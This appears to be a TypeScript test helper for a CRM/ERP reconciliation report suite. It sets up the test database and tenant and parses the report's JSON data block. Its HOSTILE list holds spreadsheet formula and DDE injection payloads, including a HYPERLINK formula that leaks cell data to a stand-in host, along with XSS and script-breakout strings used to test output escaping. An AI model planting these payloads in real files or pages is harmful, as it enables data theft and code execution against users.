// The world of a report test: a migrated test database and a data folder (registered with
// beforeAll / afterAll), a generated tenant with discrepancies of every class reconciled in full,
// hand-made records with hostile values, the files of a run's report, and the stored live
// discrepancies to compare them with.
import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, expect } from 'vitest';
import type { TenantConfig } from '../../pipeline/config/schema.js';
import { type GenerateOptions, generateTenant } from '../../pipeline/generator/ground-truth.js';
import { stageTenant } from '../../pipeline/generator/stage-generated.js';
import type { ClosePeriod } from '../../reports/report-period.js';
import { type RunReportResult, runDir, writeRunReports } from '../../reports/write-run-reports.js';
import { dataDir, reconcile, removeDataDirs, stageRows, tenantConfigOf } from '../reconcilers/helpers.js';
import { createTestDatabase, type TestDatabase } from '../support/database.js';

export const SYSTEMS = { crm: 'crm', erp: 'erp' };

export const SMALL_COUNTS = {
  customer: 60,
  product: 20,
  order: 60,
  invoice: 60,
  payment: 40,
  subscription: 30,
};

export function reportWorld(name: string) {
  const world = {
    db: undefined as unknown as TestDatabase,
    dir: '',
    /** Generates, stages and fully reconciles a tenant; returns its config and the run. */
    async generated(tenant: string, extra: Partial<GenerateOptions> = {}) {
      const opts: GenerateOptions = {
        tenant,
        seed: 7,
        counts: SMALL_COUNTS,
        currencies: ['USD', 'EUR', 'JPY', 'BHD'],
        ...extra,
      };
      const gen = generateTenant(opts);
      await stageTenant(world.db.staging.pool, gen);
      const config = tenantConfigOf(opts);
      const run = await world.reconcile(tenant, config, 'full');
      return { config, run, gen };
    },
    async reconcile(tenant: string, config: TenantConfig, mode: 'full' | 'incremental' = 'full') {
      const s = await reconcile(world.db, world.dir, tenant, config, { mode });
      expect(s.errors).toEqual([]);
      return s;
    },
    stage: (
      tenant: string,
      system: string,
      entity: Parameters<typeof stageRows>[3],
      rows: Record<string, unknown>[],
      version = 1n,
    ) => stageRows(world.db, tenant, system, entity, rows, { version }),
    async report(tenant: string, runId: string, period: ClosePeriod | null = null): Promise<RunReportResult> {
      return writeRunReports(world.db.staging.pool, {
        tenant,
        runId,
        systems: SYSTEMS,
        dir: runDir(world.dir, tenant, runId),
        period,
      });
    },
    /** The tenant's live discrepancies now, as the view holds them, in id order. */
    async live(tenant: string) {
      const { rows } = await world.db.staging.pool.query<{
        id: string;
        entity: string;
        class: string;
        field: string;
        match_key: string;
        crm_id: string | null;
        erp_id: string | null;
        crm_value: unknown;
        erp_value: unknown;
        currency: string | null;
        money_impact: string | null;
        material: boolean;
        status: string;
        runs_open: number;
        first_seen: Date;
      }>(
        `SELECT id::text, entity, class, field, match_key, crm_id, erp_id, crm_value, erp_value, trim(currency) AS currency,
                money_impact::text, material, status, runs_open, first_seen
           FROM control.discrepancies_now d WHERE tenant_id = $1 AND status IN ('open', 'accepted') ORDER BY d.id`,
        [tenant],
      );
      return rows;
    },
  };
  beforeAll(async () => {
    world.db = await createTestDatabase(name);
    world.dir = await dataDir();
  });
  afterAll(async () => {
    await removeDataDirs();
    await world.db?.drop();
  });
  return world;
}

/** The JSON data block of a report.html. */
export async function htmlData(file: string): Promise<{
  tenant: string;
  discrepancies: { columns: string[]; rows: string[][] };
  actions: { columns: string[]; rows: string[][] };
}> {
  const html = await readFile(file, 'utf8');
  const m = /<script type="application\/json" id="report-data">([\s\S]*?)<\/script>/.exec(html);
  if (!m) throw new Error(`${file} has no data block`);
  return JSON.parse(m[1]!);
}

/**
 * Values no report may let through as markup or formulas: spreadsheet formulas, script and markup
 * injections, quotes, line breaks, right-to-left text and emoji.
 */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1 after a tab',
  '\r=1+1 after a carriage return',
  "'=already quoted",
  '<script>alert("x")</script>',
  '"><img src=x onerror=alert(1)>',
  '</script><script>alert(2)</script>',
  'he said "hi", she said \'bye\'',
  'line one\nline two\r\nline three',
  '\u202eevil\u202c שלום עולם مرحبا بالعالم',
  'emoji 👩‍💻🚀 and <!-- a comment',
  'separators \u2028 and \u2029 inside',
];
